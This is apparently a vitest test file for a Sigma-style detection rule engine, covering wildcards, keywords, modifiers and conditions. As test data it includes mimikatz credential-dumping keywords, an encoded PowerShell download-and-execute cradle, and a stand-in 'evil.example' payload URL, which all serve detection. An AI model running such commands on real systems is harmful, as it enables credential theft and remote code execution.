import { describe, expect, it } from 'vitest';
import { compileText, flatRule, matches } from '../../../test/helpers/engine.js';

const rule = (selection: string, condition?: string): string => flatRule(selection, condition);

describe('values and wildcards', () => {
  it('compares case-insensitively by default', () => {
    expect(
      matches(rule('selection:\n  Image: C:\\Windows\\System32\\CMD.exe'), {
        Image: 'c:\\windows\\system32\\cmd.EXE',
      }),
    ).toBe(true);
    expect(matches(rule('selection:\n  Image: cmd.exe'), { Image: 'C:\\cmd.exe' })).toBe(false);
  });

  it('handles * and ? wildcards and their escapes', () => {
    // `\\*` is an escaped backslash then a wildcard; `\*` alone would be a literal star.
    const star = rule("selection:\n  Image: 'C:\\\\*\\\\evil?.exe'");
    expect(matches(rule("selection:\n  Image: 'C:\\*'"), { Image: 'C:*' })).toBe(true);
    expect(matches(star, { Image: 'C:\\Users\\x\\evil1.exe' })).toBe(true);
    expect(matches(star, { Image: 'C:\\Users\\x\\evil12.exe' })).toBe(false);
    const escaped = rule("selection:\n  CommandLine: 'what\\?'");
    expect(matches(escaped, { CommandLine: 'what?' })).toBe(true);
    expect(matches(escaped, { CommandLine: 'whatx' })).toBe(false);
    const literalStar = rule("selection:\n  CommandLine|contains: 'a\\*b'");
    expect(matches(literalStar, { CommandLine: 'xx a*b yy' })).toBe(true);
    expect(matches(literalStar, { CommandLine: 'xx ab yy' })).toBe(false);
    // `\\*` is a backslash followed by a wildcard.
    const backslashStar = rule("selection:\n  Path: 'C:\\\\*'");
    expect(matches(backslashStar, { Path: 'C:\\anything' })).toBe(true);
  });

  it('keeps plain backslashes', () => {
    expect(
      matches(rule("selection:\n  Image|endswith: '\\cmd.exe'"), { Image: 'C:\\Windows\\cmd.exe' }),
    ).toBe(true);
    expect(
      matches(rule("selection:\n  Image|endswith: '\\\\cmd.exe'"), { Image: 'C:\\Windows\\cmd.exe' }),
    ).toBe(true);
  });

  it('matches numbers, numeric strings, booleans and empty values', () => {
    expect(matches(rule('selection:\n  EventID: 4688'), { EventID: 4688 })).toBe(true);
    expect(matches(rule('selection:\n  EventID: 4688'), { EventID: '4688' })).toBe(true);
    expect(matches(rule("selection:\n  EventID: '4688'"), { EventID: 4688 })).toBe(true);
    expect(matches(rule('selection:\n  Signed: true'), { Signed: 'true' })).toBe(true);
    expect(matches(rule('selection:\n  Signed: false'), { Signed: true })).toBe(false);
    expect(matches(rule("selection:\n  Field: ''"), { Field: '' })).toBe(true);
    expect(matches(rule("selection:\n  Field: ''"), { Field: 'x' })).toBe(false);
  });

  it('treats null as a missing or null field', () => {
    const nullRule = rule('selection:\n  A: x\nfilter:\n  PasswordLastSet: null', 'selection and not filter');
    expect(matches(nullRule, { A: 'x' })).toBe(false);
    expect(matches(nullRule, { A: 'x', PasswordLastSet: null })).toBe(false);
    expect(matches(nullRule, { A: 'x', PasswordLastSet: '-' })).toBe(true);
  });

  it('matches any element of a multi-valued field', () => {
    expect(matches(rule('selection:\n  Tags|contains: evil'), { Tags: ['good', 'very evil'] })).toBe(true);
  });

  it('ORs lists, ANDs maps, ORs lists of maps', () => {
    const text = rule('selection:\n  - A: 1\n    B: 2\n  - C: 3');
    expect(matches(text, { A: 1, B: 2 })).toBe(true);
    expect(matches(text, { A: 1 })).toBe(false);
    expect(matches(text, { C: '3' })).toBe(true);
    expect(matches(rule('selection:\n  A:\n    - x\n    - y'), { A: 'Y' })).toBe(true);
  });
});

describe('keywords', () => {
  it('searches every value of the event, ORed', () => {
    const text = rule("keywords:\n  - 'event::clear'\n  - 'event::drop'", 'keywords');
    expect(matches(text, { msg: 'mimikatz # EVENT::Clear' })).toBe(true);
    expect(matches(text, { nested: { deep: ['x', 'event::drop!'] } })).toBe(true);
    expect(matches(text, { msg: 'event clear' })).toBe(false);
  });

  it("ANDs keywords under '|all'", () => {
    const text = rule("keywords:\n  '|all':\n    - OabVirtualDirectory\n    - ' -ExternalUrl '", 'keywords');
    expect(matches(text, { a: 'Set-OabVirtualDirectory -ExternalUrl http://x' })).toBe(true);
    expect(matches(text, { a: 'Set-OabVirtualDirectory' })).toBe(false);
  });
});

describe('modifiers', () => {
  it('contains, startswith, endswith, all', () => {
    expect(matches(rule('selection:\n  C|contains: mimi'), { C: 'xMIMIx' })).toBe(true);
    expect(matches(rule('selection:\n  C|startswith: mimi'), { C: 'xmimi' })).toBe(false);
    expect(matches(rule('selection:\n  C|endswith: katz'), { C: 'mimiKATZ' })).toBe(true);
    const all = rule('selection:\n  C|contains|all:\n    - sekurlsa\n    - logonpasswords');
    expect(matches(all, { C: 'sekurlsa::logonpasswords' })).toBe(true);
    expect(matches(all, { C: 'sekurlsa::tickets' })).toBe(false);
  });

  it('cased compares case-sensitively', () => {
    const text = rule('selection:\n  C|cased|contains: Invoke-');
    expect(matches(text, { C: 'x Invoke-Y' })).toBe(true);
    expect(matches(text, { C: 'x invoke-Y' })).toBe(false);
  });

  it('exists checks presence', () => {
    expect(matches(rule('selection:\n  F|exists: true'), { F: '' })).toBe(true);
    expect(matches(rule('selection:\n  F|exists: true'), { G: 1 })).toBe(false);
    expect(matches(rule('selection:\n  F|exists: false'), { G: 1 })).toBe(true);
  });

  it('neq requires the field to differ from every value', () => {
    const text = rule('selection:\n  U|neq:\n    - SYSTEM\n    - LOCAL SERVICE');
    expect(matches(text, { U: 'alice' })).toBe(true);
    expect(matches(text, { U: 'system' })).toBe(false);
    expect(matches(text, {})).toBe(false);
  });

  it('windash expands dash variants only where a flag starts', () => {
    const text = rule('selection:\n  C|windash|contains: " -enc "');
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015'])
      expect(matches(text, { C: `powershell ${dash}enc AAA` })).toBe(true);
    expect(matches(text, { C: 'powershell enc AAA' })).toBe(false);
    expect(matches(rule('selection:\n  C|windash|contains: "a-b"'), { C: 'a/b' })).toBe(false);
  });

  it('re with flags i, m, s and inline (?i)', () => {
    expect(matches(rule("selection:\n  C|re: 'Invoke-\\w+'"), { C: 'x Invoke-Mimikatz' })).toBe(true);
    expect(matches(rule("selection:\n  C|re: 'invoke-\\w+'"), { C: 'x Invoke-Mimikatz' })).toBe(false);
    expect(matches(rule("selection:\n  C|re|i: 'invoke-\\w+'"), { C: 'x Invoke-Mimikatz' })).toBe(true);
    expect(matches(rule("selection:\n  C|re: '(?i)invoke-\\w+'"), { C: 'x Invoke-Mimikatz' })).toBe(true);
    expect(matches(rule("selection:\n  C|re|m: '^b$'"), { C: 'a\nb\nc' })).toBe(true);
    expect(matches(rule("selection:\n  C|re: '^b$'"), { C: 'a\nb\nc' })).toBe(false);
    expect(matches(rule("selection:\n  C|re|s: 'a.c'"), { C: 'a\nc' })).toBe(true);
    expect(matches(rule("selection:\n  C|re: 'a.c'"), { C: 'a\nc' })).toBe(false);
  });

  it('a catastrophic regex cannot hang the engine', () => {
    const text = rule("selection:\n  C|re: '^(a+)+$'");
    expect(matches(text, { C: `${'a'.repeat(50_000)}!` })).toBe(false);
    expect(matches(text, { C: 'aaaa' })).toBe(true);
  });

  it('base64 and base64offset', () => {
    const encoded = Buffer.from('http://evil.example/payload').toString('base64');
    expect(matches(rule('selection:\n  C|base64: http://evil.example/payload'), { C: encoded })).toBe(true);
    const offsetRule = rule('selection:\n  C|base64offset|contains: /payload');
    for (const prefix of ['', 'a', 'ab', 'abc']) {
      const blob = Buffer.from(`${prefix}GET /payload HTTP/1.1`).toString('base64');
      expect(matches(offsetRule, { C: `powershell -e ${blob}` })).toBe(true);
    }
    expect(matches(offsetRule, { C: Buffer.from('GET /other').toString('base64') })).toBe(false);
  });

  it('utf16le/wide/utf16be/utf16 chained with base64offset (encoded PowerShell)', () => {
    const blob = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x")', 'utf16le').toString(
      'base64',
    );
    for (const modifier of ['utf16le', 'wide']) {
      expect(
        matches(rule(`selection:\n  C|${modifier}|base64offset|contains: DownloadString`), {
          C: `powershell -enc ${blob}`,
        }),
      ).toBe(true);
    }
    const be = Buffer.from('cmd', 'utf16le').swap16().toString('base64');
    expect(matches(rule('selection:\n  C|utf16be|base64: cmd'), { C: be })).toBe(true);
    const bom = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('cmd', 'utf16le')]).toString('base64');
    expect(matches(rule('selection:\n  C|utf16|base64: cmd'), { C: bom })).toBe(true);
  });

  it('lt, lte, gt, gte', () => {
    expect(matches(rule('selection:\n  N|lt: 5'), { N: 4 })).toBe(true);
    expect(matches(rule('selection:\n  N|lt: 5'), { N: 5 })).toBe(false);
    expect(matches(rule('selection:\n  N|lte: 5'), { N: '5' })).toBe(true);
    expect(matches(rule('selection:\n  N|gt: 5'), { N: 6 })).toBe(true);
    expect(matches(rule('selection:\n  N|gte: 5'), { N: 4 })).toBe(false);
    expect(matches(rule('selection:\n  N|gt: 5'), { N: 'abc' })).toBe(false);
  });

  it('time parts: minute, hour, day, week, month, year', () => {
    const event = { T: '2021-08-03T22:15:00Z' };
    expect(matches(rule('selection:\n  T|minute: 15'), event)).toBe(true);
    expect(matches(rule('selection:\n  T|hour: 22'), event)).toBe(true);
    expect(matches(rule('selection:\n  T|day: 3'), event)).toBe(true);
    expect(matches(rule('selection:\n  T|week: 31'), event)).toBe(true);
    expect(matches(rule('selection:\n  T|month: 8'), event)).toBe(true);
    expect(matches(rule('selection:\n  T|year: 2021'), event)).toBe(true);
    expect(matches(rule('selection:\n  T|hour|gte: 20'), event)).toBe(true);
    expect(matches(rule('selection:\n  T|hour: 9'), event)).toBe(false);
  });

  it('cidr for IPv4 and IPv6', () => {
    const v4 = rule('selection:\n  Ip|cidr:\n    - 10.0.0.0/8\n    - 192.168.0.0/16');
    expect(matches(v4, { Ip: '10.1.2.3' })).toBe(true);
    expect(matches(v4, { Ip: '11.1.2.3' })).toBe(false);
    expect(matches(v4, { Ip: '::ffff:10.1.2.3' })).toBe(true);
    const v6 = rule('selection:\n  Ip|cidr: fe80::/10');
    expect(matches(v6, { Ip: 'fe80::1' })).toBe(true);
    expect(matches(v6, { Ip: 'fec0::1' })).toBe(false);
    expect(matches(v6, { Ip: 'not an ip' })).toBe(false);
  });

  it('expand with placeholders', () => {
    const text = rule("selection:\n  User|expand: '%Administrators%'");
    expect(matches(text, { User: 'adm_bob' }, { Administrators: ['adm_*', 'root'] })).toBe(true);
    expect(matches(text, { User: 'bob' }, { Administrators: ['adm_*', 'root'] })).toBe(false);
    const failed = compileText(text);
    expect(failed.failed[0]?.code).toBe('missing-placeholder');
  });

  it('fieldref compares two fields, with neq', () => {
    expect(matches(rule('selection:\n  Target|fieldref: Source'), { Target: 'ABC', Source: 'abc' })).toBe(
      true,
    );
    expect(matches(rule('selection:\n  Target|fieldref: Source'), { Target: 'ABC', Source: 'abd' })).toBe(
      false,
    );
    expect(matches(rule('selection:\n  Target|fieldref|neq: Source'), { Target: 'ABC', Source: 'abd' })).toBe(
      true,
    );
    expect(
      matches(rule('selection:\n  Target|fieldref|startswith: Source'), { Target: 'ABCdef', Source: 'abc' }),
    ).toBe(true);
  });

  it('rejects misuse with a per-rule error, never a silent non-match', () => {
    const cases: [string, string][] = [
      ['selection:\n  C|base64: "a*b"', 'modifier-misuse'],
      ['selection:\n  C|cidr: 300.1.1.1/8', 'invalid-cidr'],
      ['selection:\n  C|re: "(unclosed"', 'invalid-regex'],
      ['selection:\n  C|exists: maybe', 'modifier-misuse'],
      ['selection:\n  C|lt: abc', 'modifier-misuse'],
      ['selection:\n  C|startswith|endswith: x', 'modifier-misuse'],
      ['selection:\n  C|i: x', 'modifier-misuse'],
      ['selection:\n  C|re|contains: x', 'modifier-misuse'],
    ];
    for (const [selection, code] of cases) {
      const result = compileText(rule(selection));
      expect(result.rules, selection).toHaveLength(0);
      expect(result.failed[0]?.code, selection).toBe(code);
      expect(result.failed[0]?.message, selection).toBeTruthy();
    }
  });
});

describe('conditions', () => {
  const text = rule(
    'selection_a:\n  A: 1\nselection_b:\n  B: 1\n_hidden:\n  H: 1\nfilter:\n  F: 1',
    '1 of selection_* and not filter',
  );
  it('1 of pattern with not', () => {
    expect(matches(text, { A: 1 })).toBe(true);
    expect(matches(text, { B: 1, F: 1 })).toBe(false);
    expect(matches(text, { H: 1 })).toBe(false);
  });
  it('all of them excludes identifiers starting with _', () => {
    const all = rule('a:\n  A: 1\nb:\n  B: 1\n_c:\n  C: 1', 'all of them');
    expect(matches(all, { A: 1, B: 1 })).toBe(true);
    expect(matches(all, { A: 1 })).toBe(false);
  });
  it('condition lists are ORed', () => {
    const list = flatRule('a:\n  A: 1\nb:\n  B: 1', '\n    - a\n    - b');
    expect(matches(list, { B: 1 })).toBe(true);
  });
});
